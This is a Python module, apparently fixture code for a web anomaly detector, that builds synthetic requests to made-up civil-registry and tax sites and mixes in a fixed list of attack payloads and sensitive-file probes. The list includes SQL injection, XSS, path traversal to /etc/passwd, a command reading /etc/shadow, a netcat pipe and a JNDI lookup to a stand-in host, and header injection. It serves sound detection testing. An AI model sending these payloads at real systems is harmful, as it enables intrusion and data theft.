"""Made-up ordinary requests, and the fixed pack of attacks on a site's own requests."""

from __future__ import annotations

from collections.abc import Sequence
from urllib.parse import quote_plus

import numpy as np
import pyarrow as pa

from engine.anomaly.tables import INSTANT, text_column

_NAMES = ("arta", "besnik", "drita", "ermal", "flutura", "gjergj", "ilir", "klodiana", "luan", "mirela")
_TOWNS = ("tirana", "durres", "vlora", "shkodra", "korca", "elbasan")
_START = 1_750_000_000_000_000  # microseconds since 1970
# One payload for each way of abusing a parameter: SQL, script, path, command, template, header, lookup, format, number.
PAYLOADS: tuple[str, ...] = (
    "1' OR '1'='1",
    "x'; DROP TABLE people; --",
    "1 UNION SELECT name, secret FROM accounts",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "; cat /etc/shadow",
    "| nc 192.0.2.9 4444",
    "$(id)",
    "{{7*7}}",
    "${jndi:ldap://192.0.2.9/a}",
    "a\r\nSet-Cookie: role=admin",
    "%n%n%n%n",
    "' WAITFOR DELAY '0:0:9'--",
    "A" * 600,
)
_PROBES = (".git/config", "backup.zip", "admin.php.bak", ".env", "cgi-bin/test.cgi", "phpinfo.php", "web.config~")


def sample_events(*, seed: int, count: int) -> pa.Table:
    """Return about so many ordinary requests to two made-up services."""
    chance = np.random.default_rng(seed)
    rows = [_sample(chance) for _ in range(count)]
    instants = _START + np.sort(chance.integers(0, 6 * 3_600_000_000, count))
    return pa.table(
        {
            "event.id": [f"sample-{seed}-{number}" for number in range(count)],
            "@timestamp": pa.array(instants).cast(INSTANT),
            "source.ip": [f"192.0.2.{number}" for number in chance.integers(1, 250, count)],
            "url.domain": [row[0] for row in rows],
            "http.request.method": [row[1] for row in rows],
            "url.path": [row[2] for row in rows],
            "url.query": [row[3] for row in rows],
        }
    )


def _sample(chance: np.random.Generator) -> tuple[str, str, str, str | None]:
    name = f"{chance.choice(_NAMES)}{chance.integers(1, 99)}"
    number = int(chance.integers(10_000, 99_999))
    town = chance.choice(_TOWNS)
    kind = int(chance.integers(0, 6))
    if kind == 0:
        return "civil.example", "GET", "/index.jsp", None
    if kind == 1:
        return "civil.example", "GET", "/certificate/search.jsp", f"id={number}&town={town}&lang=sq"
    if kind == 2:
        return "civil.example", "POST", "/certificate/request.jsp", f"name={name}&town={town}&copies={number % 4 + 1}"
    if kind == 3:
        return "tax.example", "POST", "/login", f"user={name}&remember={'on' if number % 2 else 'off'}"
    if kind == 4:
        return "tax.example", "GET", f"/declarations/{number}/lines", f"year={2018 + number % 7}&page={number % 9}"
    return "tax.example", "GET", f"/static/part{number % 12}.css", None


def attack_rows(normal: pa.Table, *, seed: int) -> pa.Table:
    """Return observations like the normal ones, each with one thing an attacker does: payload, new name, probe."""
    chance = np.random.default_rng(seed)
    queries = text_column(normal, "query")
    asked = [row for row, query in enumerate(queries) if query] or list(range(normal.num_rows))
    wanted = 3 * len(PAYLOADS) + 2 * len(_PROBES)
    rows = [asked[int(place)] for place in chance.integers(0, len(asked), wanted)] if asked else []
    table = normal.take(pa.array(rows, type=pa.int64()))
    paths, texts = text_column(table, "path"), text_column(table, "query")
    made = [
        _attacked(number, path, query, chance) for number, (path, query) in enumerate(zip(paths, texts, strict=True))
    ]
    return _with(_with(table, "path", [path for path, _ in made]), "query", [query for _, query in made])


def _attacked(number: int, path: str, query: str, chance: np.random.Generator) -> tuple[str, str]:
    if number >= 3 * len(PAYLOADS):
        folder = path.rpartition("/")[0]
        return f"{folder}/{_PROBES[number % len(_PROBES)]}", ""
    payload = quote_plus(PAYLOADS[number % len(PAYLOADS)])
    pairs = [pair.partition("=") for pair in query.split("&")] if query else []
    if not pairs:
        return path, f"debug={payload}"
    place = int(chance.integers(0, len(pairs)))
    name, _, value = pairs[place]
    kept = value if number % 3 == 0 else ""
    pairs[place] = (name, "=", kept + payload)
    return path, "&".join("".join(pair) for pair in pairs)


def _with(table: pa.Table, name: str, values: Sequence[str]) -> pa.Table:
    column = pa.array(values, type=table.schema.field(name).type)
    return table.set_column(table.schema.get_field_index(name), name, column)
